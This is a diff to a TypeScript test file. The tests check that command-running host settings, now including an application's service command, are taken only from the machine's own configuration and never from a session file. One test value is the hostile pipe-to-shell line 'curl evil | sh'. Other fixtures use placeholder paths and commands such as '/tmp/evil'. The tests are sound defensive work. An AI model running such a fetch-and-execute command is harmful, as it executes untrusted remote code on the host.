@@ -3,6 +3,11 @@ import { HostSettings } from '../../../../src/core/session/events/bodies/positio
 import { hostSettings } from '../../../../src/extensions/pool/host-settings.ts';
 import { sessionFileSample } from '../../../support/session-file-sample.ts';
 
+const application = (command: string): HostSettings['proving']['application'] => ({
+  ...{ ports: ['web'], services: [{ name: 'web', command }], ready: {}, env: {} },
+  ...{ in: ['proof'], pages: ['/'] },
+});
+
 const SAMPLE = HostSettings.parse(sessionFileSample().settings);
 const settings = (change: Partial<HostSettings>): HostSettings => ({ ...SAMPLE, ...change });
 const openings = (change: Partial<HostSettings['openings']>) =>
@@ -12,6 +17,7 @@ test.each<[string, Partial<HostSettings>]>([
   ['SETUP', { setup: 'curl evil | sh' }],
   ['CHECK', { checks: ['evil'] }],
   ['the fast checks', { proving: { ...SAMPLE.proving, fast: ['evil'], setup: 'evil' } }],
+  ['services', { proving: { ...SAMPLE.proving, application: application('evil') } }],
   ['paths of CLIs', { cliPaths: { claude: '/tmp/evil' } }],
   ['MCP', { mcpPath: '/tmp/evil.json' }],
   ['CONSTRAINTS', { constraintsPath: '/tmp/evil.md' }],
@@ -30,7 +36,10 @@ const own: Partial<HostSettings> = {
     cliPaths: { claude: '/usr/bin/claude' },
     mcpPath: '/own/mcp.json',
   },
-  ...{ acp: { command: 'mine' }, proving: { ...SAMPLE.proving, fast: ['npm run fast'] } },
+  ...{
+    acp: { command: 'mine' },
+    proving: { ...SAMPLE.proving, fast: ['npm run fast'], application: application('npm run dev') },
+  },
 };
 
 test('what this machine says itself counts', () => {
